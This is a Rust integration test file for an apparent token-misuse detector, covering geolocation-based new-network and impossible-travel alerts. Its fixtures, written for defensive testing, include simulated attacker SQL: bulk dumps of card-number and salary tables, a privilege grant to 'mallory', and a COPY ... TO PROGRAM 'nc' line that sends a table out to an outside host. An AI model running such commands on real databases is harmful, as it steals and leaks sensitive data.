//! Where addresses come from, as the operator's MMDB files say: how it changes what is unusual, and how it is told. `tests/origins/make.py` wrote
//! the files.

mod support;

use std::fs;
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::Duration;

use serde_json::Value;
use support::daemon::{Daemon, program};
use support::wait_for;
use tokenwatch::baseline::Baseline;
use tokenwatch::baseline::fleet::Fleet;
use tokenwatch::baseline::unit::{Feature, Unit};
use tokenwatch::detect::concurrent::CONCURRENT_USE;
use tokenwatch::detect::network::NEW_NETWORK;
use tokenwatch::detect::{Case, Fact, Finding, Mode, Settings, Travel};
use tokenwatch::event::Time;
use tokenwatch::identity::origin::Origins;
use tokenwatch::observation::{Evidence, Network, Observation};
use tokenwatch::position::Partition;
use tokenwatch::token::TokenId;

const CITY: [&str; 3] = ["maxmind-asn", "maxmind-city", "maxmind-anonymous"];
const BERLIN: &str = "198.18.0.5";
const BERLIN_2: &str = "192.0.2.5";
const MUNICH: &str = "198.18.9.5";
const MUNICH_2: &str = "198.51.100.5";
const BUCHAREST: &str = "203.0.113.77";
const SINGAPORE: &str = "198.19.0.5";
const AMAZON: &str = "198.19.3.5";
const NOWHERE: &str = "198.19.77.5";
const INSIDE: &str = "10.1.2.3";

fn file(name: &str) -> PathBuf {
    support::root().join("tests/origins").join(format!("{name}.mmdb"))
}

fn settings(files: &[&str]) -> Settings {
    let paths: Vec<PathBuf> = files.iter().map(|name| file(name)).collect();
    let origins = Arc::new(Origins::load(&paths).expect("the files"));
    Settings { origins, ..Settings::new(7 * Time::DAY, Time::DAY, 1.0, Arc::from([])) }
}

fn seen(address: &str, time: i64) -> Observation {
    let partition = Arc::new(Partition { source: "s".into(), key: "k".into(), label: "l".into() });
    Observation {
        network: Some(Network::Ip(address.parse::<IpAddr>().expect("an address"))),
        ..Observation::bare(TokenId::of(b"billing"), Time(time), Evidence { partition, offset: 0, len: 1 })
    }
}

const TODAY: i64 = 20_000 * Time::DAY + 12 * Time::HOUR;

/// A token that used these addresses on each of the last ten days, in this order, a minute apart.
fn used(addresses: &[&str]) -> (Baseline, Fleet) {
    let (mut baseline, mut fleet) = (Baseline::new(Time(TODAY - 10 * Time::DAY)), Fleet::default());
    for day in 1..=10 {
        for (at, address) in addresses.iter().enumerate() {
            let seen = seen(address, TODAY - day * Time::DAY + at as i64 * Time::MINUTE);
            baseline.open_day(seen.time, 7 * Time::DAY, &mut fleet);
            baseline.learn(&seen, false, &mut fleet);
        }
    }
    (baseline, fleet)
}

/// The level of a new network.
fn level(files: &[&str], before: &[&str], address: &str) -> u8 {
    let (settings, (baseline, fleet)) = (settings(files), used(before));
    let seen = seen(address, TODAY);
    let case = Case { settings: &settings, fleet: &fleet, baseline: &baseline, seen: &seen, mode: Mode::Enforcing };
    (NEW_NETWORK.level)(&case, &mut Unit::default())
}

#[test]
fn what_is_near_is_told_by_the_autonomous_system() {
    const ASN: &[&str] = &["maxmind-asn"];
    for (files, before, address, wanted, why) in [
        (&[][..], &[BERLIN][..], BERLIN_2, 3, "without files, a far network"),
        (&[], &[BERLIN], MUNICH, 2, "without files, the same /16"),
        (&[], &[BERLIN], BUCHAREST, 3, "without files, a far network"),
        (&CITY, &[BERLIN], BERLIN_2, 2, "the same system"),
        (&CITY, &[BUCHAREST, BERLIN], BERLIN_2, 2, "the same system as one of its networks"),
        (&CITY, &[BERLIN], MUNICH, 3, "another system of the same country, though the same /16"),
        (&CITY, &[BERLIN], MUNICH_2, 3, "another system of the same country"),
        (&CITY, &[BERLIN], SINGAPORE, 3, "another country"),
        (&CITY, &[BERLIN], BUCHAREST, 4, "a hosting provider's, for the first time"),
        (&CITY, &[BERLIN, BUCHAREST], AMAZON, 3, "it comes from another hosting provider's already"),
        (&CITY, &[BERLIN, BERLIN_2], NOWHERE, 3, "nothing is known of the new one"),
        (&CITY, &["198.19.78.1"], NOWHERE, 2, "nothing is known of either; the same /16"),
        (&CITY, &[INSIDE], BERLIN, 4, "from outside, for the first time"),
        (&CITY, &[INSIDE], "10.9.2.3", 1, "internal networks are of no system"),
        (&CITY, &[BERLIN], BERLIN, 0, "known"),
        (ASN, &[BERLIN], BERLIN_2, 2, "the system is enough"),
        (ASN, &[BERLIN], BUCHAREST, 3, "nobody says what this system is used for"),
        (ASN, &[BERLIN], AMAZON, 4, "a large hosting provider's system"),
        (&["ipinfo-lite", "ipinfo-privacy"], &[BERLIN], BERLIN_2, 2, "the same system"),
        (&["ipinfo-lite", "ipinfo-privacy"], &[BERLIN], BUCHAREST, 4, "a hosting provider's"),
        (&["dbip-asn", "dbip-city"], &[BERLIN], BERLIN_2, 2, "the same system"),
        (&CITY, &["2001:db8:2::1"], BERLIN_2, 2, "the same system in IPv6"),
        (&CITY, &[BERLIN], "2001:db8:1::1", 4, "a hosting provider's in IPv6"),
    ] {
        assert_eq!(level(files, before, address), wanted, "{why}: {address} after {before:?} with {files:?}");
    }
}

/// The level of `address`, `minutes` after `last` was used, and what is found.
fn concurrent(files: &[&str], before: &[&str], last: &str, minutes: i64, address: &str) -> (u8, Option<Finding>) {
    let (settings, (mut baseline, mut fleet)) = (settings(files), used(before));
    let mut unit = Unit::default();
    for other in [last, address] {
        let seen = seen(other, if other == last { TODAY - minutes * Time::MINUTE } else { TODAY });
        baseline.open_day(seen.time, 7 * Time::DAY, &mut fleet);
        let case = Case { settings: &settings, fleet: &fleet, baseline: &baseline, seen: &seen, mode: Mode::Enforcing };
        unit = Unit::default();
        let level = (CONCURRENT_USE.level)(&case, &mut unit);
        unit.levels[Feature::Concurrent as usize] = level;
        if other == address {
            return (level, (CONCURRENT_USE.find)(&case, &unit).filter(|_| level > 0));
        }
        baseline.learn(&seen, false, &mut fleet);
    }
    unreachable!("{unit:?}")
}

#[test]
fn nobody_travels_that_fast() {
    let journey = |km, minutes, km_per_hour| Some(Travel { km, minutes, km_per_hour });
    // Berlin and Bucharest are 1,296 km apart, less 20 and 50 km of doubt; Berlin and Singapore 9,916; Berlin and Munich 504.
    for (files, before, last, minutes, address, level, wanted, why) in [
        (&CITY[..], &[BERLIN][..], BERLIN, 20, BUCHAREST, 3, journey(1225, 20, 3675), "a thief"),
        (&CITY, &[BERLIN], BERLIN, 60, BUCHAREST, 2, journey(1225, 60, 1225), "a little too fast"),
        (&CITY, &[BERLIN], BERLIN, 75, BUCHAREST, 0, None, "an airliner"),
        (&CITY, &[BERLIN], BERLIN, 60, SINGAPORE, 4, journey(9846, 60, 9846), "ten times as fast"),
        (&CITY, &[BERLIN], BERLIN, 700, SINGAPORE, 0, None, "a night flight"),
        (&CITY, &[BERLIN], BERLIN, 0, SINGAPORE, 4, journey(9846, 1, 590_789), "at the same moment, as far as clocks can tell"),
        (&CITY, &[BERLIN], BERLIN, -20, BUCHAREST, 3, journey(1225, 20, 3675), "records out of order"),
        (&CITY, &[BERLIN, MUNICH], MUNICH, 20, BUCHAREST, 3, journey(1117, 20, 3352), "from the network that was used last"),
        (&CITY, &[BERLIN, BUCHAREST], BERLIN, 20, BUCHAREST, 0, None, "it is known to use both: a VPN"),
        (&CITY, &[BERLIN], SINGAPORE, 20, BUCHAREST, 0, None, "the other is not known to be its own"),
        (&CITY, &[BERLIN], BERLIN, 20, BERLIN_2, 0, None, "the same town"),
        (&CITY, &[BUCHAREST], BUCHAREST, 20, "2001:db8:1::1", 0, None, "two machines of one hosting provider"),
        (&CITY, &[BERLIN], BERLIN, 20, "198.19.1.5", 4, journey(13_194, 20, 39_582), "however vague the place is"),
        (&CITY, &[INSIDE], INSIDE, 20, BUCHAREST, 0, None, "nobody knows where the internal networks are"),
        (&CITY, &[BERLIN], BERLIN, 20, NOWHERE, 0, None, "nobody knows where that is"),
        (&["maxmind-asn"], &[BERLIN], BERLIN, 20, BUCHAREST, 0, None, "no file of places"),
        (&[], &[BERLIN], BERLIN, 20, BUCHAREST, 0, None, "no file"),
        (&[], &[BERLIN], BERLIN, 5, BUCHAREST, 3, None, "no file, within ten minutes"),
        (&CITY, &[BERLIN], BERLIN, 5, MUNICH, 4, journey(463, 5, 5567), "within ten minutes, too"),
    ] {
        let (got, found) = concurrent(files, before, last, minutes, address);
        let travel = found.and_then(|found| match found.fact {
            Fact::Concurrent { travel, .. } => travel,
            other => panic!("{other:?}"),
        });
        let close = match (travel, wanted) {
            (Some(travel), Some(wanted)) => {
                travel.minutes == wanted.minutes
                    && travel.km.abs_diff(wanted.km) < 20
                    && travel.km_per_hour.abs_diff(wanted.km_per_hour) < wanted.km_per_hour / 50
            }
            (travel, wanted) => travel == wanted,
        };
        assert!(got == level && close, "{why}: level {got} instead of {level}, {travel:?} instead of {wanted:?}");
    }
}

fn line(n: usize, minute: i64, address: &str, client: &str, statement: &str) -> String {
    let time = Time(TODAY / Time::DAY * Time::DAY + minute * Time::MINUTE).to_string();
    let time = format!("{} {}.000 UTC", &time[..10], &time[11..19]);
    format!(
        "{time},\"billing\",\"shop\",{n},\"{address}:5821\",6ae68101.{n:x},4,\"SELECT\",{time},15/1851,0,LOG,00000,\"statement: {statement}\",,,,,,,,,\
         \"{client}\",\"client backend\",,0\n"
    )
}

const DAY: i64 = 24 * 60;

/// Twenty days in Berlin, the same two statements over and over; then somebody in Bucharest, half an hour after the last use.
fn log() -> String {
    let mut text = String::new();
    for day in 0..20 {
        for n in 0..40 {
            let statement = ["SELECT total FROM invoices WHERE id = 1", "SELECT name FROM customers WHERE id = 2"][n % 2];
            text.push_str(&line(n, day * DAY + 480 + 8 * n as i64, BERLIN, "billing-svc", statement));
        }
    }
    for n in 0..4 {
        let table = ["card_numbers", "salaries", "users", "payments"][n];
        text.push_str(&line(n, 19 * DAY + 480 + 8 * 39 + 30 + n as i64, BUCHAREST, "psql", &format!("SELECT * FROM {table} LIMIT 100000")));
    }
    text
}

/// A folder with the log, the files and a configuration that names them.
fn folder(mmdb: &str) -> tempfile::TempDir {
    let folder = tempfile::tempdir().expect("a folder");
    for name in CITY.iter().chain(&["domain"]) {
        fs::copy(file(name), folder.path().join(format!("{name}.mmdb"))).expect("a file");
    }
    fs::write(folder.path().join("log.csv"), log()).expect("the log");
    fs::write(folder.path().join("t.toml"), format!("[detect]\nfalse_alerts_per_1000_token_days = 3.0\n{mmdb}\n"))
        .expect("the configuration");
    folder
}

/// Exit code, stdout and stderr.
fn tokenwatch(folder: &Path, args: &[&str]) -> (i32, String, String) {
    let output = Command::new(program()).current_dir(folder).args(args).output().expect("the program runs");
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (output.status.code().unwrap_or(-1), text(&output.stdout), text(&output.stderr))
}

const MMDB: &str = "mmdb = [\"maxmind-asn.mmdb\", \"maxmind-city.mmdb\", \"maxmind-anonymous.mmdb\"]";
const ALL: [&str; 5] = ["replay", "--config", "t.toml", "--format", "postgres-csv"];

#[test]
fn an_alert_names_system_and_country_and_the_same_files_give_the_same_alerts() {
    let folder = folder(MMDB);
    let replay = || tokenwatch(folder.path(), &[&ALL[..], &["log.csv"]].concat());
    let (code, out, err) = replay();
    assert!(code <= 1 && !out.is_empty(), "{err}");
    assert_eq!(replay().1, out);
    let alert: Value = serde_json::from_str(out.lines().next().expect("an alert")).expect("JSON");
    assert_eq!(alert["address"], BUCHAREST, "the address itself stays bare");
    let observed = |detector: &str| -> String {
        let findings = alert["findings"].as_array().expect("findings");
        let found = findings.iter().find(|found| found["detector"] == detector).unwrap_or_else(|| panic!("no {detector} in {out}"));
        format!("{} / {}", found["observed"].as_str().expect("text"), found["expected"].as_str().expect("text"))
    };
    let network = observed("new_network");
    for part in [
        "first use from 203.0.113.77 (AS64500 Example Hosting, RO, hosting or VPN), a country that it never came from: ",
        "198.18.0.0/24 (AS64496 Example Office, DE) (800 times",
    ] {
        assert!(network.contains(part), "{part:?} is not in {network:?}");
    }
    let travel = observed("concurrent_use");
    for part in ["from 203.0.113.77 (AS64500", "within 30 minutes of 198.18.0.0/24 (AS64496 Example Office, DE), 1,2", " km away, so at 2,"]
    {
        assert!(travel.contains(part), "{part:?} is not in {travel:?}");
    }
    // Without the files, nothing of it.
    fs::write(folder.path().join("t.toml"), "[detect]\nfalse_alerts_per_1000_token_days = 3.0\n").expect("the configuration");
    let (_, bare, _) = replay();
    assert!(!bare.is_empty() && !bare.contains("AS64") && !bare.contains("Example"), "{bare}");
}

#[test]
fn decode_shows_where_an_address_comes_from() {
    let folder = folder(MMDB);
    fs::write(folder.path().join("one.csv"), line(1, 0, BUCHAREST, "psql", "SELECT 1") + &line(2, 1, INSIDE, "psql", "SELECT 1"))
        .expect("a log");
    let (_, out, err) = tokenwatch(folder.path(), &["decode", "--config", "t.toml", "--format", "postgres-csv", "one.csv"]);
    let origin = "origin      AS64500 Example Hosting, RO, hosting or VPN; near 44.43, 26.10, within 50 km\n";
    assert!(out.contains(origin) && out.matches("origin      ").count() == 1, "{out}{err}");
}

#[test]
fn check_names_the_files_and_what_is_wrong_with_them() {
    let good = folder(MMDB);
    let (code, out, err) = tokenwatch(good.path(), &["check", "--config", "t.toml"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("maxmind-asn.mmdb (GeoLite2-ASN, built 2026-11-01)\n") && out.matches("\norigins        ").count() == 3, "{out}");
    for (mmdb, words) in [
        ("mmdb = [\"none.mmdb\"]", "none.mmdb: cannot be read: No such file or directory (os error 2); check the path in [detect] mmdb"),
        ("mmdb = [\"domain.mmdb\"]", "domain.mmdb: (GeoIP2-Domain) says nothing that is used here; name files of"),
        ("mmdb = [\"log.csv\"]", "log.csv: is not a sound MMDB file: could not find MaxMind DB metadata in file; it may be cut off"),
        ("mmdb = [\".\"]", "is not a file; name the .mmdb file itself"),
        (
            "mmdb = [\"maxmind-asn.mmdb\", \"maxmind-asn.mmdb\"]",
            "t.toml:3:29: mmdb: \"maxmind-asn.mmdb\" names no further file; leave it out",
        ),
        ("mmdb = \"maxmind-asn.mmdb\"", "t.toml:3:8: \"mmdb\" must be a list such as"),
        ("mmdb = [\"none.mmdb\"]\nlerning = \"7d\"", "none.mmdb: cannot be read"),
    ] {
        let folder = folder(mmdb);
        for command in ["check", "run"] {
            let (code, _, err) = tokenwatch(folder.path(), &[command, "--config", "t.toml"]);
            assert!(
                code == 2 && err.contains(words) || command == "run" && err.contains("nothing to read"),
                "{words:?} is not in {err:?} ({code})"
            );
        }
    }
}

#[test]
fn a_damaged_file_is_refused_by_those_who_rely_on_it() {
    let folder = folder("mmdb = [\"maxmind-city.mmdb\"]\n[[source]]\ntype = \"stdin\"");
    let path = folder.path().join("maxmind-city.mmdb");
    let mut bytes = fs::read(&path).expect("the file");
    let end = bytes.len();
    let data = bytes.windows(6).rposition(|six| six == b"Berlin" || six == b"Ashbur").expect("a city");
    bytes[data - 1..(data + 60).min(end - 300)].fill(0xff);
    fs::write(&path, bytes).expect("the file");
    for command in ["check", "run"] {
        let (code, _, err) = tokenwatch(folder.path(), &[command, "--config", "t.toml"]);
        assert!(code == 2 && err.contains("maxmind-city.mmdb: is not a sound MMDB file"), "{err} ({code})");
    }
}

/// A reload takes the new files, and one that cannot be read leaves the old ones in force.
#[test]
fn a_reload_swaps_the_files() {
    let config = "[detect]\nlearning = \"0s\"\nmmdb = [\"here.mmdb\"]\n[[source]]\ntype = \"file\"\ninclude = [\"log.csv\"]\nformat = \"postgres-csv\"\n\
                  [[channel]]\nname = \"file\"\ntype = \"file\"\npath = \"alerts.jsonl\"\nmin_severity = \"informational\"\n";
    let mut daemon = Daemon::new(config, &[]);
    let path = |name: &str| daemon.folder.path().join(name);
    let (log, mmdb, alerts) = (path("log.csv"), path("here.mmdb"), path("alerts.jsonl"));
    fs::copy(file("maxmind-country"), &mmdb).expect("a file");
    let append = |text: &str| {
        use std::io::Write;
        fs::OpenOptions::new().create(true).append(true).open(&log).and_then(|mut file| file.write_all(text.as_bytes())).expect("the log");
    };
    append("");
    daemon.start();
    // What rules forbid is told at once.
    let misuse = |day: i64, address: &str, statement: &str| {
        append(&line(1, day * DAY, BERLIN, "svc", "SELECT total FROM invoices"));
        append(&line(2, day * DAY + 5, address, "svc", statement));
    };
    let told = |what: &str| {
        let text = || fs::read_to_string(&alerts).unwrap_or_default();
        wait_for(what, Duration::from_secs(20), || Some(text()).filter(|text| text.contains(what)))
    };
    for day in 0..3 {
        append(&line(1, day * DAY, BERLIN, "svc", "SELECT total FROM invoices"));
    }
    misuse(3, BUCHAREST, "GRANT pg_read_all_data TO mallory");
    assert!(!told("203.0.113.77 (RO)").contains("AS64"));
    fs::write(&mmdb, "not such a file").expect("a file");
    daemon.reload();
    wait_for("the failed reload", Duration::from_secs(10), || {
        daemon.metric("tokenwatch_config_reload_success").filter(|value| *value == 0.0)
    });
    assert!(daemon.output().contains("here.mmdb: is not a sound MMDB file"), "{}", daemon.output());
    fs::copy(file("maxmind-asn"), &mmdb).expect("a file");
    daemon.reload();
    wait_for("the reload", Duration::from_secs(10), || daemon.metric("tokenwatch_config_reload_success").filter(|value| *value == 1.0));
    // The intake takes it between two batches.
    std::thread::sleep(Duration::from_secs(1));
    misuse(40, "203.0.113.78", "COPY invoices TO PROGRAM 'nc 203.0.113.9 80'");
    assert!(told("203.0.113.78 (AS64500 Example Hosting)").contains("203.0.113.77 (RO)"));
}
